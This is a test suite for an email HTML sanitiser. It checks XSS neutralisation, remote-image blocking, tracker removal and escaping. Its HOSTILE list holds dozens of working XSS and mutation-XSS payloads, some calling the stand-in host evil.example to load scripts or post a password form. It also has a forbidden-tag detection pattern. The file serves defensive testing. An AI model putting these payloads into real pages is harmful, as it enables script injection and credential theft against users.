import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize.ts';
import { htmlToText, restoreRemoteImages } from './sanitized-html.ts';
import { unsafeUrl, unsafeUrlAsRead } from './sanitize-policy.ts';
import { createTrackerMatcher } from './trackers/trackers.ts';

const trackers = createTrackerMatcher({ disconnect: 'off' });
const clean = (html: string) => sanitizeEmailHtml(html, { trackers });

/** Hostile HTML: scripts, handlers, dangerous URLs, SVG/MathML, mXSS shapes, fetching CSS. */
const HOSTILE: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img src=x onerror=alert(1)//>',
  '<body onload=alert(1)><p>x</p></body>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p ONCLICK="alert(1)">click</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<plaintext><script>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=pw type=password><button formaction=javascript:alert(1)>go</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<picture><source srcset="https://evil.example/s.png"><img src="https://evil.example/i.png"></picture>',
  '<table background="https://evil.example/t.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<style>@import url(https://evil.example/x.css);</style>',
  "<style>@import 'https://evil.example/y.css';</style>",
  '<style>body{background:url(https://evil.example/bg.png)}</style>',
  '<style>.a{background:\\75\\72\\6c(https://evil.example/esc.png)}</style>',
  '<style>.a{background:u/**/rl(https://evil.example/c.png)}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
  '<style>.x{behavior:url(x.htc)}.y{-moz-binding:url(x.xml#y)}.z{width:expression(alert(1))}</style>',
  '<style>.x{background-image:image-set("https://evil.example/i.png" 1x)}</style>',
  '<style>.x{--bg:url(https://evil.example/v.png);background:var(--bg)}</style>',
  '<style></style><img src=x onerror=alert(1)>',
  '<style>x{}</style ><script>alert(1)</script>',
  '<div style="background-image:url(\'https://evil.example/s.png\')">x</div>',
  '<div style="background:u\\rl(https://evil.example/t.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<img src="https://evil.example/remote.png" srcset="https://evil.example/r2.png 2x">',
  '<img data-remote-src="javascript:alert(1)"><p data-remote-background="https://evil.example/x.png">x</p>',
  '<a href="https://shop.example" ping="https://evil.example/ping">ping</a>',
  '<img src="https://evil.example/x.png" lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d.png">',
  '<image src="https://evil.example/image.png">',
  '<div><p><span><b><i>' + '<div>'.repeat(500) + '<img src=x onerror=alert(1)>',
];

interface Tag {
  name: string;
  attributes: [string, string][];
}

/** The tags of sanitised output (it always quotes attribute values with "). */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    const attributes: [string, string][] = [];
    for (const a of (m[2] ?? '').matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      attributes.push([(a[1] ?? '').toLowerCase(), a[2] ?? '']);
    }
    tags.push({ name: (m[1] ?? '').toLowerCase(), attributes });
  }
  return tags;
}

const FORBIDDEN_TAGS =
  /<\s*\/?\s*(script|svg|math|iframe|object|embed|form|input|button|base|meta|link|noscript|template|xmp|textarea|title|video|audio|source|picture|frame|frameset|isindex|plaintext|image|animate|foreignobject|mglyph|applet)\b/i;

function expectHarmless(html: string): void {
  expect(html).not.toMatch(FORBIDDEN_TAGS);
  for (const tag of tagsOf(html)) {
    for (const [name, value] of tag.attributes) {
      expect(name, `${tag.name} ${name}`).not.toMatch(/^on/);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|#|[^:]*$)/i);
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpe?g|gif|webp);base64,/i);
      expect([
        'srcset',
        'background',
        'poster',
        'ping',
        'action',
        'formaction',
        'lowsrc',
        'dynsrc',
      ]).not.toContain(name);
      if (name.startsWith('data-remote-')) expect(value).toMatch(/^https?:\/\//);
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|behavior|binding|@import|\\/i);
    }
  }
  for (const style of html.matchAll(/<style>([\s\S]*?)<\/style>/g)) {
    expect(style[1]).not.toMatch(
      /url\(|@import|expression|behavior|binding|image-set|<|@font-face/i,
    );
  }
  expect(html).not.toMatch(/javascript:|vbscript:|data:text\/html/i);
  expect(html).not.toMatch(/https:\/\/evil\.example\/(x|y)\.css/);
}

describe('sanitizeEmailHtml', () => {
  it.each(HOSTILE.map((h) => [h.slice(0, 70), h]))('neutralises %s', (_label, input) => {
    const { html } = clean(input);
    expectHarmless(html);
    // With images shown (the ?images=1 variant) nothing dangerous appears either.
    const shown = restoreRemoteImages(html);
    expect(shown).not.toMatch(FORBIDDEN_TAGS);
    expect(shown).not.toMatch(/javascript:|<[^>]+\son\w+=/i);
  });

  it('keeps ordinary email markup and safe CSS', () => {
    const { html } = clean(`
      <style>@media (max-width: 600px) { .col { width: 100% !important } } h1 { color: #c00 }</style>
      <table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="padding: 8px; color: rgb(0, 0, 0)">
      <h1>Sale</h1><p>Up to <b>50%</b> off &amp; more</p><a href="https://shop.example/sale?x=1&amp;y=2">Shop</a>
      <a href="mailto:help@shop.example">Mail us</a></td></tr></table>`);
    expect(html).toContain(
      '<style>@media (max-width: 600px) { .col { width: 100% !important } }\nh1 { color: #c00 }</style>',
    );
    expect(html).toContain('<table width="600" cellpadding="0" bgcolor="#ffffff">');
    expect(html).toContain('style="padding: 8px; color: rgb(0, 0, 0)"');
    expect(html).toContain('<p>Up to <b>50%</b> off &amp; more</p>');
    expect(html).toContain(
      '<a href="https://shop.example/sale?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">Shop</a>',
    );
    expect(html).toContain('href="mailto:help@shop.example"');
  });

  it('blocks remote images until asked, and restores them on request', () => {
    const result = clean(
      '<img src="https://cdn.shop.example/a.png" alt="A" width="300" srcset="https://cdn.shop.example/a2.png 2x, /relative.png 3x"><td background="https://cdn.shop.example/bg.png">x</td>',
    );
    expect(result.hasRemoteImages).toBe(true);
    expect(result.html).not.toMatch(/\ssrc="https?:|\ssrcset=|\sbackground=/);
    expect(result.html).toContain('data-remote-src="https://cdn.shop.example/a.png"');
    expect(result.html).toContain('data-remote-srcset="https://cdn.shop.example/a2.png 2x"');
    expect(result.html).toContain('data-remote-background="https://cdn.shop.example/bg.png"');
    const shown = restoreRemoteImages(result.html);
    expect(shown).toContain(' src="https://cdn.shop.example/a.png"');
    expect(shown).toContain(' srcset="https://cdn.shop.example/a2.png 2x"');
    expect(shown).toContain(' background="https://cdn.shop.example/bg.png"');
    expect(
      clean('<p>no images</p><img src="data:image/png;base64,iVBORw0KGgo=">').hasRemoteImages,
    ).toBe(false);
  });

  it('removes tracking pixels and counts them, spacers uncounted', () => {
    const result = clean(`
      <img src="https://shop.list-manage.com/track/open.php?u=1&id=2" alt="">
      <img src="https://links.shop.example/o/abc" width="1" height="1">
      <img src="https://links.shop.example/o/def" style="display:none">
      <img src="https://links.shop.example/o/ghi" style="width:0px;height:0px">
      <img src="https://cdn.shop.example/spacer.gif" width="1" height="1">
      <img src="https://cdn.shop.example/hero.jpg" width="600">`);
    expect(result.trackersRemoved).toBe(4);
    expect(result.html).not.toMatch(/list-manage|\/o\/|spacer/);
    expect(result.html).toContain('data-remote-src="https://cdn.shop.example/hero.jpg"');
  });

  it('unwraps links through known click trackers when the destination is in the URL', () => {
    const result = clean(
      '<a href="https://t.yesware.com/tl/abc?ytl=https%3A%2F%2Fshop.example%2Fshoes">Shoes</a>' +
        '<a href="https://shop.example/plain">Plain</a>',
    );
    expect(result.trackersRemoved).toBe(1);
    expect(result.html).toContain('href="https://shop.example/shoes"');
    expect(result.html).toContain('href="https://shop.example/plain"');
    expect(result.html).not.toContain('yesware');
  });

  it('inlines cid: images given to it and drops unknown ones', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const result = sanitizeEmailHtml('<img src="cid:logo@shop"><img src="cid:missing">', {
      trackers,
      inlineImages: new Map([['logo@shop', png]]),
    });
    expect(result.html).toBe(`<img src="${png}" /><img />`);
  });

  // sanitize-html 2.17.5's output for this input (decisions 031 and 033): ours is the same.
  it('escapes text and attribute values exactly as sanitize-html did', () => {
    const { html } = clean(
      `<p title='a"b&amp;c<d>e' class="x&y">x &amp; y &lt; z &gt; "q" &#169; &copy; & plain ` +
        `&unknownentity; <b>t</b> a>b</p><p>nothing to escape</p>` +
        `<a href="https://e.example/?a=1&b=2&amp;c=3">l</a>`,
    );
    expect(html).toBe(
      '<p title="a&quot;b&amp;c&lt;d&gt;e" class="x&amp;y">x &amp; y &lt; z &gt; "q" © © ' +
        '&amp; plain &amp;unknownentity; <b>t</b> a&gt;b</p><p>nothing to escape</p>' +
        '<a href="https://e.example/?a=1&amp;b=2&amp;c=3" target="_blank" rel="noopener noreferrer nofollow">l</a>',
    );
  });

  // The order attributes are written in: the input's, with moved and added ones after
  // (the output of the sanitiser that copied the attributes into an object of its own).
  it('writes attributes in the input order, moved and added ones after', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const { html } = sanitizeEmailHtml(
      '<a rel="x" data-id="7" background="https://cdn.shop.example/bg.png" href=" https://shop.example/p " title="t">a</a>' +
        '<a target="self" href="">b</a>' +
        '<img data-remote-src="https://evil.example/" srcset="https://cdn.shop.example/a.png 2x" src="cid:logo@shop" alt="" style="color:red;background:url(x)" width="20">' +
        '<image background="//cdn.shop.example/bg.png" src="https://cdn.shop.example/p.jpg" id="i">' +
        '<td style="background:url(https://evil.example/)" background="javascript:x" align="left">c</td>',
      { trackers, inlineImages: new Map([['logo@shop', png]]) },
    );
    expect(html).toBe(
      '<a rel="noopener noreferrer nofollow" href="https://shop.example/p" title="t" data-remote-background="https://cdn.shop.example/bg.png" target="_blank">a</a>' +
        '<a target="_blank" rel="noopener noreferrer nofollow">b</a>' +
        `<img alt="" style="color: red" width="20" src="${png}" data-remote-srcset="https://cdn.shop.example/a.png 2x" />` +
        '<img id="i" data-remote-background="https://cdn.shop.example/bg.png" data-remote-src="https://cdn.shop.example/p.jpg" />' +
        '<td align="left">c</td>',
    );
  });

  it('writes elements without content once, and ignores end tags that close nothing', () => {
    expect(
      clean('<table><colgroup><col span="2"></colgroup></table>a<wbr>b</span></b>c').html,
    ).toBe('<table><colgroup><col span="2" /></colgroup></table>a<wbr />bc');
  });

  it('reads a comment the way a browser does, so what it shows is what was sanitised', () => {
    // `--!>` ends a comment in HTML: the image after it is shown, so it must be sanitised.
    expect(clean('<!-- x --!><img src=x onerror=alert(1)>y').html).toBe('<img />y');
    expect(clean('<!-- <img src=x onerror=alert(1)> -->z').html).toBe('z');
  });

  it('drops elements nested deeper than 200, keeping their text', () => {
    const deep = `${'<span>'.repeat(205)}deep text${'</span>'.repeat(205)}`;
    const { html } = clean(deep);
    expect(html.match(/<span>/g)).toHaveLength(200);
    expect(html).toContain('deep text');
  });

  it('drops empty attributes that need a value, keeping alt="" and boolean ones', () => {
    expect(
      clean('<img alt="" width=""><td nowrap title="">x</td><details open>d</details>').html,
    ).toBe('<img alt="" /><td nowrap>x</td><details open>d</details>');
  });

  it('handles a 5 MB body', () => {
    const block =
      '<tr><td style="padding:4px"><a href="https://shop.example/p">Product</a> <img src="https://cdn.shop.example/p.jpg" width="80"></td></tr>';
    const html = `<table>${block.repeat(Math.ceil((5 * 1024 * 1024) / block.length))}</table>`;
    const started = performance.now();
    const result = clean(html);
    expect(result.html.length).toBeGreaterThan(4 * 1024 * 1024);
    expect(result.hasRemoteImages).toBe(true);
    expect(performance.now() - started).toBeLessThan(15_000);
  });
});

describe('htmlToText', () => {
  it('drops tags and styles and decodes every entity, named or numeric', () => {
    expect(
      htmlToText(
        '<style>p { color: red }</style><p>Caf&eacute;&nbsp;&amp; more &lt;b&gt; &#8217;s &#x2014; &quot;ok&quot; &#39;x&#39;</p>\n<div>next</div>',
      ),
    ).toBe('Café & more <b> ’s — "ok" \'x\' next');
  });
});

describe('unsafeUrl', () => {
  it('reads an http(s) URL as the long way does', () => {
    const values = [
      'https://shop.example/p?a=1&b=2',
      'http://shop.example/',
      'https:',
      'http:',
      'https:javascript:alert(1)',
      'http:<!-- x -->javascript:alert(1)',
      'https: //x',
      'http:\t//x',
      'https://a<!--b-->c',
      'httpsx://x',
      'http//x',
      'HTTP://x',
      ' https://x',
      'javascript:alert(1)',
      'data:image/png;base64,AAAA',
      '//evil.example/',
      '/relative',
    ];
    for (const tag of ['a', 'img', 'blockquote']) {
      for (const value of values) {
        expect(unsafeUrl(tag, value), `${tag} ${value}`).toBe(unsafeUrlAsRead(tag, value));
      }
    }
  });
});
